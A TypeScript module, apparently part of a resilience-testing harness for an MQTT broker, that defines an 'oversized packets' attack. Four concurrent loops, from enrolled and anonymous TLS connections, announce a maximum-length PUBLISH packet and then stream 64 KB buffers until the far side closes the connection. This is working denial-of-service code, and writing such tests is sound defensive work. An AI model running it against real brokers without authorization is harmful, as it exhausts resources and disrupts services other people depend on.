import type { Attack } from './attack.ts'
import { RawLine } from './raw-line.ts'

/** 256 MB announced, as much as MQTT can say; sent until the far side has had enough. */
const HEAD = Uint8Array.of(0x32, 0xff, 0xff, 0xff, 0x7f)
const PIECE = Buffer.alloc(64 * 1024)
const AT_ONCE = 4

/** Packets far over the limit, from an enrolled box and from nobody. */
export const hugePackets: Attack = {
  name: 'huge-packets',
  zh: '超大报文',
  en: 'oversized packets',
  run: async (target, signal) => {
    let tried = 0
    await Promise.all(
      Array.from({ length: AT_ONCE }, async (_, place) => {
        while (!signal.aborted) {
          tried++
          const isEnrolled = place % 2 === 0
          const line = isEnrolled ? await RawLine.entered(target, signal) : RawLine.tls(target, signal, null)
          line.socket.write(HEAD)
          const pump = (): void => {
            while (line.socket.writable && line.socket.write(PIECE));
          }
          line.socket.on('drain', pump)
          pump()
          await line.ended
        }
      }),
    )
    return { tried, succeeded: 0 }
  },
}
